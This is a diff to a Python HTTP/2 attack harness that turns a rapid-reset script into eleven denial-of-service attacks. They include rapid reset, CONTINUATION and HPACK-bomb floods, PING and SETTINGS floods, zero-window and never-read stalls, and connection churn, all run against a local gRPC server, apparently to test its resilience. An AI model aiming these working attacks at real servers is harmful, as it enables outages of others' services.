@@ -3,27 +3,29 @@
 It speaks HTTP/2 frame by frame (frames built and parsed with hyperframe,
 headers encoded with hpack: the h2 project's own libraries), which no gRPC
 library would let a test do. Every attack runs on loopback, is bounded in
-streams and in seconds, and stops by itself.
+frames and in seconds, and stops by itself. All connections share one
+thread, so an attack uses one core at most. A connection the server closes
+is opened again, as an attacker would.
 
-    python http2_attacker.py rapid-reset --port PORT [--connections 8]
+    python http2_attacker.py ATTACK --port PORT [--connections 8]
         [--seconds 6] [--max-streams N]
 
-rapid-reset (CVE-2023-44487): on each connection, open a stream (HEADERS
-and one DATA frame carrying a GetSequence(46) request) and reset it at once
-(RST_STREAM CANCEL), for new stream ids in a tight loop. All connections
-share one thread, so the attack uses one core at most. A connection the
-server closes is opened again, as an attacker would. Prints one JSON line:
-streams sent, connections opened, GOAWAYs received.
+Attacks (ATTACKS below has one line on each): rapid-reset, stream-flood,
+continuation-flood, big-header, hpack-bomb, ping-flood, settings-flood,
+empty-data-flood, zero-window, never-read, churn. Prints one JSON line:
+streams opened, frames sent, connections opened, GOAWAYs received.
 """
 
 import argparse
 import json
 import socket
+import struct
 import sys
 import time
 
 from hpack import Encoder, NeverIndexedHeaderTuple
 from hyperframe.frame import (
+    ContinuationFrame,
     DataFrame,
     Frame,
     GoAwayFrame,
@@ -62,29 +64,29 @@ class Connection:
     """One attacking connection: a socket, the next stream id, and what
     the server sent that is not yet parsed."""
 
-    def __init__(self, port: int, deadline: float):
+    def __init__(self, port: int, deadline: float, settings=None, reads: bool = True):
         self.deadline = deadline
+        # A client that never reads does not acknowledge anything either.
+        self.reads = reads
         self.sock = socket.create_connection(("127.0.0.1", port), timeout=5)
         self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
-        self.sock.sendall(PREFACE + SettingsFrame(0).serialize())
+        self.sock.sendall(PREFACE + SettingsFrame(0, settings=settings or {}).serialize())
         self.sock.setblocking(False)
         self.next_stream_id = 1
         self.inbound = bytearray()
         self.goaways = 0
 
-    def rapid_reset_batch(self, block: bytes, payload: bytes, count: int) -> bytes:
-        frames = []
-        for _ in range(count):
-            stream_id = self.next_stream_id
-            self.next_stream_id += 2
-            frames.append(HeadersFrame(stream_id, block, flags=["END_HEADERS"]).serialize())
-            frames.append(DataFrame(stream_id, payload).serialize())
-            frames.append(RstStreamFrame(stream_id, error_code=CANCEL).serialize())
-        return b"".join(frames)
+    def new_stream_id(self) -> int:
+        stream_id = self.next_stream_id
+        self.next_stream_id += 2
+        return stream_id
 
     def answer(self) -> bool:
         """Reads what the server sent; acknowledges its SETTINGS and PINGs
-        as a conforming client must. False once the server has closed."""
+        as a conforming client must. False once the server has closed. A
+        client that never reads only checks that it may still write."""
+        if not self.reads:
+            return True
         try:
             while True:
                 chunk = self.sock.recv(1 << 16)
@@ -128,6 +130,10 @@ class Connection:
                     time.sleep(0.005)
                     if not self.answer():
                         return False
+                    if not self.reads:
+                        # Blocked for good: the server has stopped reading
+                        # a client that does not read.
+                        return True
         except OSError:
             return False
         return True
@@ -136,48 +142,259 @@ class Connection:
         self.sock.close()
 
 
-def rapid_reset(port: int, connections: int, seconds: float, max_streams: int) -> dict:
-    block, payload = grpc_request(
-        "/fibonacci.Fibonacci/GetSequence", f"127.0.0.1:{port}", b"\x08\x2e"
-    )
+GET_SEQUENCE_46 = ("/fibonacci.Fibonacci/GetSequence", b"\x08\x2e")
+
+
+def junk_header_block(size: int) -> bytes:
+    """`size` bytes of header block: literal `x-junk` fields, never
+    indexed, 1000 bytes of value each."""
+    field = Encoder().encode([NeverIndexedHeaderTuple("x-junk", "a" * 1000)], huffman=False)
+    return (field * (size // len(field) + 1))[:size]
+
+
+def header_frames(stream_id: int, block: bytes, end_stream: bool = False) -> bytes:
+    """A header block as HEADERS and as many CONTINUATION frames as the
+    default 16 KiB frame size needs."""
+    chunks = [block[i:i + 16384] for i in range(0, len(block), 16384)] or [b""]
+    first_flags = ["END_STREAM"] if end_stream else []
+    frames = [HeadersFrame(stream_id, chunks[0],
+                           flags=first_flags + (["END_HEADERS"] if len(chunks) == 1 else []))]
+    for index, chunk in enumerate(chunks[1:], start=2):
+        frames.append(ContinuationFrame(stream_id, chunk,
+                                        flags=["END_HEADERS"] if index == len(chunks) else []))
+    return b"".join(frame.serialize() for frame in frames)
+
+
+class Attack:
+    """What one attack writes: `open` once per connection, then `batch` in
+    a loop. Both return (bytes, streams opened)."""
+
+    settings = None
+    reads = True
+    streams_per_batch = STREAMS_PER_WRITE
+
+    def __init__(self, port: int):
+        method, message = GET_SEQUENCE_46
+        self.block, self.payload = grpc_request(method, f"127.0.0.1:{port}", message)
+
+    def open(self, conn: Connection):
+        return b"", 0
+
+    def batch(self, conn: Connection, count: int):
+        raise NotImplementedError
+
+
+class RapidReset(Attack):
+    """HEADERS, one DATA frame (a GetSequence(46) request) and RST_STREAM
+    CANCEL, for new stream ids in a tight loop (CVE-2023-44487)."""
+
+    def batch(self, conn, count):
+        frames = []
+        for _ in range(count):
+            stream_id = conn.new_stream_id()
+            frames.append(HeadersFrame(stream_id, self.block, flags=["END_HEADERS"]).serialize())
+            frames.append(DataFrame(stream_id, self.payload).serialize())
+            frames.append(RstStreamFrame(stream_id, error_code=CANCEL).serialize())
+        return b"".join(frames), count
+
+
+class StreamFlood(Attack):
+    """Streams opened (HEADERS, no END_STREAM) and never finished, far past
+    MAX_CONCURRENT_STREAMS."""
+
+    def batch(self, conn, count):
+        frames = [HeadersFrame(conn.new_stream_id(), self.block, flags=["END_HEADERS"]).serialize()
+                  for _ in range(count)]
+        return b"".join(frames), count
+
+
+class ContinuationFlood(Attack):
+    """HEADERS without END_HEADERS, then CONTINUATION frames of junk header
+    fields without end (CVE-2024-27316's kind)."""
+
+    streams_per_batch = 1
+
+    def open(self, conn):
+        stream_id = conn.new_stream_id()
+        conn.continued = stream_id
+        return HeadersFrame(stream_id, self.block).serialize(), 1
+
+    def batch(self, conn, count):
+        frame = ContinuationFrame(conn.continued, junk_header_block(16384)).serialize()
+        return frame * 8, 0
+
+
+class BigHeader(Attack):
+    """Requests each carrying one header of 1 MiB (HEADERS and
+    CONTINUATIONs)."""
+
+    streams_per_batch = 1
+
+    def batch(self, conn, count):
+        big = Encoder().encode([NeverIndexedHeaderTuple("x-big", "b" * (1 << 20))], huffman=False)
+        return header_frames(conn.new_stream_id(), self.block + big, end_stream=True), 1
+
+
+class HpackBomb(Attack):
+    """A 4,000-byte header put in the HPACK dynamic table once per
+    connection, then requests whose header blocks reference it 4,000 times
+    (1 byte on the wire, 4 kB decoded, each)."""
+
+    streams_per_batch = 1
+
+    def open(self, conn):
+        conn.encoder = Encoder()
+        insert = conn.encoder.encode([("x-bomb", "c" * 4000)], huffman=False)
+        frames = header_frames(conn.new_stream_id(), self.block + insert, end_stream=True)
+        return frames, 1
+
+    def batch(self, conn, count):
+        # Index 62 is the newest entry of the dynamic table: 0x80 | 62.
+        return header_frames(conn.new_stream_id(), self.block + b"\xbe" * 4000, end_stream=True), 1
+
+
+class PingFlood(Attack):
+    """PING frames without end, from a client that never reads the
+    acknowledgements."""
+
+    reads = False
+
+    def batch(self, conn, count):
+        return PingFrame(0, b"12345678").serialize() * count, 0
+
+
+class SettingsFlood(Attack):
+    """SETTINGS frames without end, from a client that never reads the
+    acknowledgements."""
+
+    reads = False
+
+    def batch(self, conn, count):
+        return SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100}).serialize() * count, 0
+
+
+class EmptyDataFlood(Attack):
+    """One stream opened, then empty DATA frames on it without end."""
+
+    def open(self, conn):
+        stream_id = conn.new_stream_id()
+        conn.flooded = stream_id
+        return HeadersFrame(stream_id, self.block, flags=["END_HEADERS"]).serialize(), 1
+
+    def batch(self, conn, count):
+        return DataFrame(conn.flooded, b"").serialize() * count, 0
+
+
+class ZeroWindow(Attack):
+    """An initial window of 0 (the server may send no reply data), then
+    whole GetSequence(46) requests on new streams, and never a
+    WINDOW_UPDATE."""
+
+    settings = {SettingsFrame.INITIAL_WINDOW_SIZE: 0}
+
+    def batch(self, conn, count):
+        frames = []
+        for _ in range(count):
+            stream_id = conn.new_stream_id()
+            frames.append(HeadersFrame(stream_id, self.block, flags=["END_HEADERS"]).serialize())
+            frames.append(DataFrame(stream_id, self.payload, flags=["END_STREAM"]).serialize())
+        return b"".join(frames), count
+
+
+class NeverRead(ZeroWindow):
+    """Whole GetSequence(46) requests on new streams with the usual
+    window, on a socket that is never read."""
+
+    settings = None
+    reads = False
+
+
+ATTACKS = {
+    "rapid-reset": RapidReset,
+    "stream-flood": StreamFlood,
+    "continuation-flood": ContinuationFlood,
+    "big-header": BigHeader,
+    "hpack-bomb": HpackBomb,
+    "ping-flood": PingFlood,
+    "settings-flood": SettingsFlood,
+    "empty-data-flood": EmptyDataFlood,
+    "zero-window": ZeroWindow,
+    "never-read": NeverRead,
+}
+
+
+def run(attack: Attack, port: int, connections: int, seconds: float, max_streams: int) -> dict:
+    """Runs `attack` on `connections` connections until `seconds` have
+    passed or `max_streams` streams were opened."""
     deadline = time.monotonic() + seconds
-    opened = [Connection(port, deadline) for _ in range(connections)]
-    connections_opened = connections
-    goaways = 0
-    streams = 0
-    while time.monotonic() < deadline and streams < max_streams:
+    totals = {"streams": 0, "bytes": 0, "connections_opened": 0, "goaways": 0}
+
+    def connect():
+        conn = Connection(port, deadline, settings=attack.settings, reads=attack.reads)
+        totals["connections_opened"] += 1
+        data, streams = attack.open(conn)
+        if data and conn.send(data):
+            totals["streams"] += streams
+            totals["bytes"] += len(data)
+        return conn
+
+    opened = [connect() for _ in range(connections)]
+    while time.monotonic() < deadline and totals["streams"] < max_streams:
         for index, conn in enumerate(opened):
-            count = min(STREAMS_PER_WRITE, max_streams - streams)
-            alive = (
-                conn.next_stream_id + 2 * count < LAST_STREAM_ID
-                and conn.answer()
-                and conn.send(conn.rapid_reset_batch(block, payload, count))
-            )
+            count = min(attack.streams_per_batch, max_streams - totals["streams"])
+            alive = conn.next_stream_id + 2 * count < LAST_STREAM_ID and conn.answer()
             if alive:
-                streams += count
+                data, streams = attack.batch(conn, count)
+                alive = conn.send(data)
+            if alive:
+                totals["streams"] += streams
+                totals["bytes"] += len(data)
                 continue
-            goaways += conn.goaways
+            totals["goaways"] += conn.goaways
             conn.close()
             try:
-                opened[index] = Connection(port, deadline)
-                connections_opened += 1
+                opened[index] = connect()
             except OSError:
                 time.sleep(0.01)
     for conn in opened:
-        goaways += conn.goaways
+        totals["goaways"] += conn.goaways
         conn.close()
-    return {"streams": streams, "connections_opened": connections_opened, "goaways": goaways}
+    return totals
+
+
+def churn(port: int, seconds: float, max_connections: int) -> dict:
+    """Connections opened (preface and SETTINGS) and reset at once (a zero
+    linger makes close send a TCP RST), one after another."""
+    deadline = time.monotonic() + seconds
+    opened = 0
+    linger = struct.pack("ii", 1, 0)
+    while time.monotonic() < deadline and opened < max_connections:
+        try:
+            sock = socket.create_connection(("127.0.0.1", port), timeout=5)
+        except OSError:
+            time.sleep(0.01)
+            continue
+        sock.sendall(PREFACE + SettingsFrame(0).serialize())
+        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)
+        sock.close()
+        opened += 1
+    return {"streams": 0, "bytes": 0, "connections_opened": opened, "goaways": 0}
 
 
 def main():
     parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
-    parser.add_argument("attack", choices=["rapid-reset"])
+    parser.add_argument("attack", choices=[*ATTACKS, "churn"])
     parser.add_argument("--port", type=int, required=True)
     parser.add_argument("--connections", type=int, default=8)
     parser.add_argument("--seconds", type=float, default=6.0)
-    parser.add_argument("--max-streams", type=int, default=5_000_000)
+    parser.add_argument("--max-streams", type=int, default=5_000_000,
+                        help="streams opened in all (churn: connections)")
     args = parser.parse_args()
-    result = rapid_reset(args.port, args.connections, args.seconds, args.max_streams)
+    if args.attack == "churn":
+        result = churn(args.port, args.seconds, args.max_streams)
+    else:
+        result = run(ATTACKS[args.attack](args.port), args.port, args.connections, args.seconds,
+                     args.max_streams)
     print(json.dumps(result), flush=True)
 
 
